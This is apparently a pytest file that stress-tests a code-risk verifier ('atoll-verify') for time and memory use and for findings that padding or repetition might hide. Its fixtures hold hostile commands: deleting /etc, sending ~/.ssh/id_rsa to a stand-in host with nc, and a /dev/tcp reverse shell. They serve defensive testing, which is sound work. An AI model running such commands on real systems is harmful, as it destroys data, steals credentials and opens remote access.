# SPDX-License-Identifier: Apache-2.0
"""What a judgement takes of time and memory, and that a text which takes much hides nothing behind it."""
import json
import os
import random
import subprocess

import hostile
import pytest
from atoll import ROOT
from peak import peak

ROUNDS = int(os.environ.get("ATOLL_ROUNDS", "1"))
SEED = int(os.environ.get("ATOLL_SEED", "1"))
TEXTS = 40
# Found by a search for what costs most; before their costs were bounded they took up to 0.5 s and 240 MB.
COSTLY = (16, 58, 258, 265, 411, 447, 502, 516, 606, 611, 650, 654, 661, 665)
# Far above what any text takes (0.2 s, 70 MB), and far below what one without a bound does.
COMPUTED_MS_MAX, MEMORY_MB_MAX, TEXT_MAX = 1500, 160, 6000
SEVERITIES = ("low", "medium", "high", "critical")
NAMES = "abcslm"


class Maker:
    """Texts of nested loops, functions, lists and joined texts: what repeats and grows."""

    def __init__(self, seed, language):
        self.random = random.Random(seed)
        self.is_python = language == "python"

    def pick(self, *choices):
        return self.random.choice(choices)

    def name(self):
        return self.random.choice(NAMES)

    def value(self, depth):
        if depth <= 0 or self.random.random() < 0.2:
            return self.pick(*NAMES, "1", '"x"', "[1, 2, 3]", '"abab"')
        a, b, name = self.value(depth - 1), self.value(depth - 1), self.name()
        shared = [f"({a} + {b})", f"{self.pick(*'fgh')}({a}, {b})", f"{name}[{a}]", f"{name}.replace({a}, {b})"]
        if self.is_python:
            return self.pick(*shared, f"[{a}, {b}, *{name}]", f"[{a} for {name} in {b}]", f"({a} if {b} else {name})",
                             f"''.join({a})", f"{{'k': {a}, 'j': {b}}}", f"'%s%s' % ({a}, {b})",
                             "f'{%s}{%s}'" % (name, self.name()))
        return self.pick(*shared, f"[{a}, {b}, ...{name}]", f"{a}.map({name} => {b})", f"({a} ? {b} : {name})",
                         f"{a}.join({b})", f"({{k: {a}, ...{name}}})", f"(({name}) => {a})({b})",
                         "`${%s}${%s}`" % (a, b))

    def block(self, depth, indent):
        return "".join(self.statement(depth - 1, indent + 1) for _ in range(self.random.randrange(1, 4)))

    def statement(self, depth, indent):
        kind = self.random.randrange(8 if depth > 0 else 3)
        value, name = self.value(self.random.randrange(1, 4)), self.name()
        begin, body = " " * indent, self.block(depth, indent) if kind > 2 else ""
        if kind < 3:
            call = self.pick("open", "os.system", "f", "g", "l.append", "exec") if self.is_python else \
                self.pick("fs.readFileSync", "cp.exec", "f", "g", "l.push", "eval")
            return f"{begin}{(f'{name} = {value}', f'{name} += {value}', f'{call}({value})')[kind]}\n"
        if self.is_python:
            head = (f"for {name} in {self.pick(value, 'range(200)', 'a * 250', 'l')}:", f"if {value}:", "try:",
                    f"while {value}:", f"def {self.pick(*'fgh')}(a, b=1, *c):")[kind - 3]
            tail = {4: f"{begin}else:\n{begin} pass\n", 5: f"{begin}finally:\n{begin} pass\n"}.get(kind, "")
            return f"{begin}{head}\n{body}{tail}"
        head = (f"for (const {name} of {value})", f"if ({value})", "for (let i = 0; i < 200; i++)",
                f"while ({value})", f"function {self.pick(*'fgh')}(a, b, ...c)")[kind - 3]
        return f"{begin}{head} {{\n{body}{begin}}}\n"

    def text(self):
        begin = "import os\na = b = c = s = 'x'; l = ['a', 'b']; m = {'k': 'v'}\n" if self.is_python else \
            "const fs = require('fs'), cp = require('child_process');\n" \
            "let a = 'x', b = a, c = a, s = a, l = [a], m = {k: a};\n"
        while len(begin) < TEXT_MAX and self.random.random() < 0.95:
            begin += self.statement(self.random.randrange(2, 6), 0)
        return begin


@pytest.mark.parametrize("language", ["python", "javascript"])
def test_no_small_text_takes_much(programs, tmp_path, language):
    verify = os.path.join(os.environ.get("ATOLL_BIN", ROOT / "build" / "bin"), "atoll-verify")
    file = tmp_path / "text"
    for seed in (*COSTLY, *range(SEED * 1000, SEED * 1000 + TEXTS * ROUNDS)):
        file.write_text(Maker(seed, language).text())
        out, peak_kib = peak([verify, "--json", "--no-own-rules", f"--language={language}", file])
        answer = json.loads(out)
        assert answer["computed_us"] < COMPUTED_MS_MAX * 1000, (seed, answer["computed_us"])
        assert peak_kib < MEMORY_MB_MAX << 10, (seed, peak_kib)


# What is put around a text -> (before, behind) by language; {} of it is as often as it says.
LOOPS = {"python": "for i in range(200):\n  for j in range(200):\n    z = f'{i}{j}' + f'{j}'\n",
         "javascript": "for (let i = 0; i < 200; i++) for (let j = 0; j < 200; j++) var z = `${i}${j}` + i;\n"}
PADDING = {
    "comments": ({"shell": "# x\n" * 4000, "python": "# x\n" * 4000, "javascript": "// x\n" * 4000}, ""),
    "statements": (
        {"shell": "echo x\n" * 400, "python": "print('x')\n" * 400, "javascript": "console.log('x');\n" * 400},
        {"shell": "\necho y" * 400, "python": "\nprint('y')" * 400, "javascript": "\nconsole.log('y');" * 400}),
    "variables": ({"shell": "X=1\n" * 3000, "python": "x = 1\n" * 3000, "javascript": "var x = 1;\n" * 3000}, ""),
    "loops": ({"shell": "for i in $(seq 200); do :; done\n" * 20,
               **{name: text * 3 for name, text in LOOPS.items()}}, ""),
    "functions": ({"shell": "f() { :; }\n" * 300, "python": "def f(x):\n  return x\nf(f(f(1)))\n" * 300,
                   "javascript": "function f(x) { return x; }\nf(f(f(1)));\n" * 300}, ""),
}


def cases():
    """Risky ones that are found, of the sets that are not held out."""
    for path in sorted((ROOT / "tests" / "corpus").glob("*-risky*.jsonl")):
        if "blind2" not in path.name:
            for line in path.read_text().splitlines():
                case = json.loads(line)
                if not case.get("broken"):
                    yield case


def surrounded(text, before, behind):
    """What stands in the first line of a script says what reads it, and stays there."""
    first, _, rest = text.partition("\n") if text.startswith("#!") else ("", "", text)
    return first + "\n" * bool(first) + before + rest.rstrip("\n") + "\n" + behind.lstrip("\n") + "\n"


def worst(programs, tmp_path, language, texts):
    """The highest severity in each of the texts, as a number; -1: nothing is found."""
    verify = os.path.join(os.environ.get("ATOLL_BIN", ROOT / "build" / "bin"), "atoll-verify")
    files = [tmp_path / str(number) for number in range(len(texts))]
    for file, text in zip(files, texts):
        file.write_text(text)
    done = subprocess.run([verify, "--json", "--no-own-rules", f"--language={language}", *files], capture_output=True,
                          text=True, check=False)
    return [max((SEVERITIES.index(finding["severity"]) for finding in json.loads(line)["findings"]), default=-1)
            for line in done.stdout.splitlines()]


@pytest.mark.parametrize("padding", PADDING)
@pytest.mark.parametrize("language", ["shell", "python", "javascript"])
def test_what_stands_around_an_attack_does_not_lower_what_is_said(programs, tmp_path, language, padding):
    before, behind = (part if isinstance(part, dict) else dict.fromkeys(("shell", "python", "javascript"), part)
                      for part in PADDING[padding])
    chosen = [case for case in cases() if case["language"] == language]
    chosen = random.Random(SEED).sample(chosen, 60)
    plain = worst(programs, tmp_path, language, [case["text"] for case in chosen])
    padded = worst(programs, tmp_path, language,
                   [surrounded(case["text"], before[language], behind[language]) for case in chosen])
    assert len(plain) == len(padded) == len(chosen)
    assert not [(case["id"], one, other) for case, one, other in zip(chosen, plain, padded) if other < one]


# Shells that took 0.5 to 3 s, because a parser lost its way at each byte, or each search went over all that flows in.
HOSTILE = {
    "redirections": "<" * 32000, "outputs": ">" * 32000, "parameters": "${" * 16000, "pipeline": "a|" * 16000 + "a",
    "tees": "a | tee b | " * 2700 + "c", "doubling": "x=$x$x\n" * 4500, "copies": "cat a >> a\n" * 2900,
    "nested-loops": "for i in a b; do " * 1800 + "rm x; " + "done; " * 1800,
    "descriptors": "exec 3<>/dev/tcp/a/1; sh <&3 >&3\n" * 900, "prompts": "python3\n" * 4000,
    "documents": "<<E " * 8000, "stars": "cat <<E | psql\n" + "drop " * 6000 + "\nE",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_no_hostile_shell_text_takes_long_or_hides_what_stands_before_it(programs, tmp_path, name):
    verify = os.path.join(os.environ.get("ATOLL_BIN", ROOT / "build" / "bin"), "atoll-verify")
    file = tmp_path / "text.sh"
    file.write_text(f"rm -rf /etc\n{HOSTILE[name]}\ncat ~/.ssh/id_rsa | nc x.test 80\n")
    out, peak_kib = peak([verify, "--json", "--no-own-rules", file])
    answer = json.loads(out)
    # The slowest takes 0.15 s; what they took before was 4 times as much and more.
    assert answer["computed_us"] < COMPUTED_MS_MAX * 1000 / 3
    assert peak_kib < MEMORY_MB_MAX << 10
    assert "destructive.remove-system" in {finding["id"] for finding in answer["findings"]}


REPEATED_SIZE, REPEATED_SHARE = 1 << 16, 8


@pytest.mark.parametrize("language", hostile.LANGUAGES)
def test_what_repeats_itself_is_judged_within_bounds(programs, tmp_path, language):
    """An eighth of the patterns, another one for each seed; tests/lib/hostile.py measures all of them."""
    verify = os.path.join(os.environ.get("ATOLL_BIN", ROOT / "build" / "bin"), "atoll-verify")
    patterns = hostile.LANGUAGES[language][SEED % REPEATED_SHARE::REPEATED_SHARE]
    files = []
    for number, pattern in enumerate(patterns):
        files.append(tmp_path / str(number))
        files[-1].write_bytes(hostile.repeated(pattern, REPEATED_SIZE))
    answers, peak_kib = hostile.judge(verify, language, files)
    assert len(answers) == len(patterns) > 10
    took = max(zip((answer["computed_us"] for answer in answers), patterns))
    assert took[0] < COMPUTED_MS_MAX * 1000 / 3, took
    assert peak_kib < MEMORY_MB_MAX << 10


ATTACK = {"shell": "rm -rf /etc\n", "python": "import os\nos.system('rm -rf /etc')\n",
          "javascript": "require('child_process').execSync('rm -rf /etc');\n"}


@pytest.mark.parametrize("language", hostile.LANGUAGES)
def test_what_repeats_itself_hides_nothing_before_it(programs, tmp_path, language):
    plain = worst(programs, tmp_path, language, [ATTACK[language]])[0]
    chosen = random.Random(SEED).sample(hostile.LANGUAGES[language], 20)
    assert plain == SEVERITIES.index("critical")
    texts = [ATTACK[language] + pattern * (20000 // len(pattern)) + "\n" for pattern in chosen]
    assert not [one for one, found in zip(chosen, worst(programs, tmp_path, language, texts)) if found < plain]


def test_a_bundle_of_megabytes_is_looked_at_where_it_begins(programs, tmp_path):
    verify = os.path.join(os.environ.get("ATOLL_BIN", ROOT / "build" / "bin"), "atoll-verify")
    file = tmp_path / "bundle.js"
    file.write_text("require('fs').rmSync('/etc', {recursive: true});\n"
                    + "const a=[" + ",".join(f"function(e,t){{return e+t*{i}}}" for i in range(160000)) + "]\n")
    answer = json.loads(subprocess.run([verify, "--json", "--no-own-rules", file], capture_output=True,
                                       check=False).stdout)
    assert answer["computed_us"] < COMPUTED_MS_MAX * 1000 / 3
    assert {"destructive.remove-system", "unknown.size"} <= {finding["id"] for finding in answer["findings"]}
